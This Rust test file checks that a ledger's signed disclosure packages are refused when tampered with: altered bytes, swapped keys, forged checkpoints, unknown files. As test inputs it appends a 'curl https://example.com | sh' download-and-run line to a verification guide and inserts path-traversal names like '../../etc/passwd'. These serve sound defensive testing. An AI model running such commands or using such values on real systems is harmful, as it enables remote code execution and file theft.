//! Packages that were altered, and files that never were packages.

use super::files::{in_order, repack, unpack};
use super::{Run, place, problems, run, statements, with, with_list};
use onefold::crypto::{KekAccess, Keyring};
use onefold::encoding::storage::Disk;
use onefold::ledger::Kind;
use onefold::pipeline::{Access, Archive, Selection};
use onefold::report::disclosure::{Package, verify};
use onefold::tlog::{Checkpoint, SignedNote, SigningKey};
use serde_json::json;
use std::sync::Arc;

/// The one problem of a package, which must hold these words.
fn refused(package: &[u8], of: &Package, words: &[&str]) {
    let problems = problems(package, &of.vkeys);
    assert!(!problems.is_empty(), "passes, and should be refused for {words:?}");
    let all = problems.join("\n");
    for word in words {
        assert!(all.contains(word), "{word:?} is not in\n{all}");
    }
}

/// The keys that sign the ledger of a run.
fn signing(run: &Run) -> Vec<SigningKey> {
    let keys = Keyring::open(&run.data.join("keys"), Arc::new(Disk), &KekAccess::default()).unwrap();
    keys.signing().unwrap()
}

#[test]
fn every_altered_byte_of_the_file_is_refused() {
    let run = run();
    let package = run.entries([run.first(Kind::Received)]);
    for at in 0..package.bytes.len() {
        let mut other = package.bytes.clone();
        other[at] ^= 1 << (at % 8);
        assert!(verify(&other, &package.vkeys).is_err(), "byte {at} of {}", other.len());
    }
    for size in (0..package.bytes.len()).step_by(7) {
        assert!(verify(&package.bytes[..size], &package.vkeys).is_err(), "cut at {size}");
    }
}

#[test]
fn every_altered_byte_of_every_file_is_refused_or_changes_nothing() {
    let run = run();
    let package = run.profile("email:grace@example.com", Some(&run.earlier));
    let truth = verify(&package.bytes, &package.vkeys).unwrap();
    assert!(truth.is_sound());
    let truth = statements(&truth);
    let files = unpack(&package.bytes);
    let (mut refused, mut same) = (0, Vec::new());
    for (name, content) in files.iter().filter(|(name, _)| *name != "VERIFY.md") {
        for at in 0..content.len() {
            let mut other = files.clone();
            other.get_mut(name).unwrap()[at] ^= [0x01, 0x20, 0x80][at % 3];
            match verify(&repack(&other), &package.vkeys) {
                Ok(verified) if verified.is_sound() => {
                    assert_eq!(statements(&verified), truth, "byte {at} of {name}");
                    same.push(format!("{name}:{at}"));
                }
                _ => refused += 1,
            }
        }
    }
    // Only white space of the list can be altered so that it reads as before.
    assert!(same.iter().all(|place| place.starts_with("package.json:")), "{same:?}");
    assert!(refused > 5 * same.len(), "{refused} refused, {} read as before", same.len());
}

#[test]
fn another_guide_is_told_of() {
    let run = run();
    let package = run.entries([0]);
    let other =
        with(&package.bytes, |files| files.get_mut("VERIFY.md").unwrap().extend(b"curl https://example.com | sh\n"));
    let verified = verify(&other, &package.vkeys).unwrap();
    assert!(verified.is_sound() && !verified.guide_is_known);
}

#[test]
fn a_wrong_key_is_refused() {
    let run = run();
    let (received, merge) = (run.first(Kind::Received), run.first(Kind::Merge));
    let package = run.entries([received, merge]);
    let (one, two) = (place(&package, received), place(&package, merge));
    let swapped = with_list(&package.bytes, |list| {
        let key = list["entries"][one]["key"].take();
        list["entries"][one]["key"] = list["entries"][two]["key"].take();
        list["entries"][two]["key"] = key;
    });
    let committed = "the key is not the one that the entry is committed to";
    let (at_one, at_two) = (format!("entries/{received}.body"), format!("entries/{merge}.body"));
    refused(&swapped, &package, &[committed, &at_one, &at_two]);
    let zeros = with_list(&package.bytes, |list| list["entries"][one]["key"] = json!("00".repeat(32)));
    refused(&zeros, &package, &[committed, &at_one]);
    // What verified is told all the same.
    let verified = verify(&zeros, &package.vkeys).unwrap();
    assert_eq!((verified.problems.len(), verified.entries.len()), (1, package.entries.len() - 1));
    let capitals = with_list(&package.bytes, |list| list["entries"][one]["key"] = json!("AA".repeat(32)));
    refused(&capitals, &package, &["its key is not 64 hexadecimal digits"]);
}

#[test]
fn bodies_and_proofs_belong_to_their_entries() {
    let run = run();
    let (received, merge) = (run.first(Kind::Received), run.first(Kind::Merge));
    let package = run.entries([received, merge]);
    for (extension, says) in [
        ("body", "the body is not the one that the entry was written with"),
        ("logical", "the body is not the one that the entry was written with"),
        ("tlog-proof", "it is not the proof of this entry"),
    ] {
        let swapped = with(&package.bytes, |files| {
            let (one, two) = (format!("entries/{received}.{extension}"), format!("entries/{merge}.{extension}"));
            let first = files.remove(&one).unwrap();
            let second = files.insert(two, first).unwrap();
            files.insert(one, second);
        });
        refused(&swapped, &package, &[says]);
    }
    // All three at once are the other entry, under the wrong name.
    let renamed = with(&package.bytes, |files| {
        for extension in ["body", "logical", "tlog-proof"] {
            let other = files[&format!("entries/{merge}.{extension}")].clone();
            files.insert(format!("entries/{received}.{extension}"), other);
        }
    });
    refused(&renamed, &package, &[]);
}

#[test]
fn each_node_of_a_proof_counts() {
    let run = run();
    let received = run.first(Kind::Received);
    let package = run.profile("crm:17", Some(&run.earlier));
    let name = format!("entries/{received}.tlog-proof");
    let text = String::from_utf8(unpack(&package.bytes)[&name].clone()).unwrap();
    let (proof, note) = text.split_once("\n\n").unwrap();
    let lines: Vec<&str> = proof.split('\n').collect();
    assert!(lines.len() > 4, "the tree is too small for this test");
    let altered = |change: &dyn Fn(&mut Vec<String>)| {
        let mut lines: Vec<String> = lines.iter().map(|line| (*line).to_owned()).collect();
        change(&mut lines);
        let text = format!("{}\n\n{note}", lines.join("\n"));
        refused(&with(&package.bytes, |files| drop(files.insert(name.clone(), text.into_bytes()))), &package, &[&name]);
    };
    let other = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=".to_owned();
    for node in 2..lines.len() {
        altered(&|lines| lines[node].clone_from(&other));
        altered(&|lines| drop(lines.remove(node)));
        altered(&|lines| lines.insert(node, other.clone()));
        let next = 2 + (node - 1) % (lines.len() - 2);
        altered(&|lines| lines.swap(node, next));
    }
    altered(&|lines| lines[1] = format!("index {}", received + 1));
    altered(&|lines| lines.insert(1, "extra AAAA".to_owned()));
    let consistency = String::from_utf8(unpack(&package.bytes)["consistency"].clone()).unwrap();
    let nodes: Vec<&str> = consistency.lines().collect();
    for node in 0..nodes.len() {
        let mut other_nodes = nodes.clone();
        other_nodes[node] = &other;
        let text = other_nodes.join("\n") + "\n";
        let bytes = with(&package.bytes, |files| drop(files.insert("consistency".into(), text.into_bytes())));
        refused(&bytes, &package, &["consistency"]);
    }
}

#[test]
fn checkpoints_of_others_are_refused() {
    let (run, other) = (run(), super::run());
    let package = run.profile("crm:17", Some(&run.earlier));
    let foreign = other.profile("crm:17", Some(&other.earlier));
    let bytes = with(&package.bytes, |files| drop(files.insert("checkpoint".into(), other.earlier.clone())));
    refused(&bytes, &package, &["checkpoint", "another log"]);
    let bytes = with(&package.bytes, |files| drop(files.insert("earlier-checkpoint".into(), other.earlier.clone())));
    refused(&bytes, &package, &["earlier-checkpoint", "another log"]);
    // A whole package of another ledger, sound in itself, under the key that was got from this one.
    refused(&foreign.bytes, &package, &["checkpoint", "no known key has signed"]);
    // The same head signed by somebody else under this ledger's name.
    let head = SignedNote::parse(&unpack(&package.bytes)["checkpoint"]).unwrap();
    let name = package.vkeys[0].name();
    let forger = SigningKey::from_seed(name, [9; 32].into()).unwrap();
    let forged = SignedNote::new(head.text(), vec![forger.sign(head.text()).unwrap()]).unwrap().to_text();
    let bytes = with(&package.bytes, |files| drop(files.insert("checkpoint".into(), forged.clone().into_bytes())));
    refused(&bytes, &package, &["checkpoint", "no known key has signed"]);
    // One that the ledger itself has signed, but over fewer entries.
    let bytes = with(&package.bytes, |files| drop(files.insert("checkpoint".into(), run.earlier.clone())));
    refused(&bytes, &package, &["its checkpoint is not that of the package"]);
}

#[test]
fn a_ledger_that_was_written_anew_is_noticed() {
    let run = run();
    let package = run.profile("crm:17", Some(&run.earlier));
    let keys = signing(&run);
    let earlier = Checkpoint::parse(SignedNote::parse(&run.earlier).unwrap().text().as_bytes()).unwrap();
    let mut root = *earlier.root();
    root[5] ^= 4;
    let other = Checkpoint::new(earlier.origin(), earlier.size(), root, Vec::new()).unwrap().to_text();
    let other = SignedNote::new(&other, vec![keys[0].sign(&other).unwrap()]).unwrap().to_text().into_bytes();
    // Whoever holds such a head cannot be given a package that goes on from it…
    let archive = Archive::open(&run.data).unwrap();
    let root = archive.finder().unwrap().profiles_of("crm:17").unwrap()[0];
    let error =
        archive.disclose_as(&Access::inspection("test"), &Selection::Profile(root), Some(&other), |_| {}).unwrap_err();
    assert!(error.to_string().contains("its root is not the one"), "{error}");
    // …and one that claims to does not verify.
    let bytes = with(&package.bytes, |files| drop(files.insert("earlier-checkpoint".into(), other.clone())));
    refused(&bytes, &package, &["consistency", "does not lead to the old root"]);
}

#[test]
fn files_are_exactly_those_of_the_list() {
    let run = run();
    let package = run.entries([run.first(Kind::Received)]);
    let refused = |bytes: &[u8], words: &[&str]| refused(bytes, &package, words);
    for name in ["README", "entries/99.body", "../../etc/passwd", "/etc/passwd", "entries\\1.body", "certificate.txt"] {
        refused(&with(&package.bytes, |files| drop(files.insert(name.into(), b"x".to_vec()))), &[name, "no package"]);
    }
    for name in ["é", "a\u{0}b", ""] {
        assert!(verify(&with(&package.bytes, |files| drop(files.insert(name.into(), b"x".to_vec()))), &[]).is_err());
    }
    for name in unpack(&package.bytes).keys() {
        refused(&with(&package.bytes, |files| drop(files.remove(name))), &[name, "missing"]);
    }
    refused(
        &with(&package.bytes, |files| drop(files.insert("consistency".into(), Vec::new()))),
        &["earlier-checkpoint"],
    );
    let files = unpack(&package.bytes);
    let mut list: Vec<(&str, &[u8])> =
        files.iter().map(|(name, content)| (name.as_str(), content.as_slice())).collect();
    assert_eq!(in_order(&list), package.bytes);
    list.push(list[list.len() - 1]);
    refused(&in_order(&list), &["byte"]);
    list.pop();
    list.swap(1, 2);
    refused(&in_order(&list), &["byte"]);
    for bytes in [&b""[..], b"PK", b"not a package", b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0"] {
        assert!(verify(bytes, &[]).is_err());
    }
}

#[test]
fn lists_that_no_program_writes_are_refused() {
    let run = run();
    let (received, merge) = (run.first(Kind::Received), run.first(Kind::Merge));
    let package = run.entries([received, merge]);
    let raw = |text: String| with(&package.bytes, |files| drop(files.insert("package.json".into(), text.into_bytes())));
    let list = String::from_utf8(unpack(&package.bytes)["package.json"].clone()).unwrap();
    refused(&raw("[".repeat(200_000)), &package, &["package.json"]);
    refused(&raw(list.replacen('{', "{\"more\": 1,", 1)), &package, &["unknown field"]);
    refused(&raw(list.replacen('{', "{\"format\": \"onefold-disclosure/v1\",", 1)), &package, &["duplicate field"]);
    refused(&raw(format!("{list}{{}}")), &package, &["package.json"]);
    refused(&raw(list.replace("disclosure/v1", "disclosure/v2")), &package, &["format"]);
    let changed = |change: &dyn Fn(&mut serde_json::Value)| with_list(&package.bytes, change);
    refused(&changed(&|list| list["kind"] = json!("certificate")), &package, &["certificate.txt"]);
    refused(&changed(&|list| list["ledger"] = json!("0".repeat(32))), &package, &["not one of this ledger"]);
    refused(&changed(&|list| list["entries"].as_array_mut().unwrap().reverse()), &package, &["do not ascend"]);
    let at = place(&package, received);
    for (member, value) in [
        ("sequence", json!(merge)),
        ("kind", json!("consent")),
        ("time", json!("2020-01-01T00:00:00Z")),
        ("logical", json!("entries/0.logical")),
        ("proof", json!("checkpoint")),
        ("body", json!(null)),
        ("redacted", json!(true)),
        ("sequence", json!(-1)),
        ("sequence", json!(1e30)),
    ] {
        let bytes = changed(&|list| list["entries"][at][member] = value.clone());
        refused(&bytes, &package, &["package.json"]);
    }
    // A body may be left out with the mark that it was deleted: that it was is then said, and not proved.
    let bytes = with(&package.bytes, |files| drop(files.remove(&format!("entries/{received}.body"))));
    let bytes = with_list(&bytes, |list| {
        let entry = &mut list["entries"][at];
        (entry["body"], entry["key"], entry["redacted"]) = (json!(null), json!(null), json!(true));
    });
    let verified = verify(&bytes, &package.vkeys).unwrap();
    assert!(verified.is_sound());
    let entry = verified.entries.iter().find(|entry| entry.sequence.0 == received).unwrap();
    assert_eq!(entry.state, onefold::report::disclosure::State::Redacted { by: None });
    // An entry that stands in clear cannot be hidden so.
    let policy = package.entries.iter().find(|entry| entry.kind == Kind::Policy).unwrap().sequence.0;
    let bytes = with(&package.bytes, |files| drop(files.remove(&format!("entries/{policy}.body"))));
    let at = place(&package, policy);
    let bytes = with_list(&bytes, |list| {
        let entry = &mut list["entries"][at];
        (entry["body"], entry["redacted"]) = (json!(null), json!(true));
    });
    refused(&bytes, &package, &["stands in clear, and its body is not here"]);
}
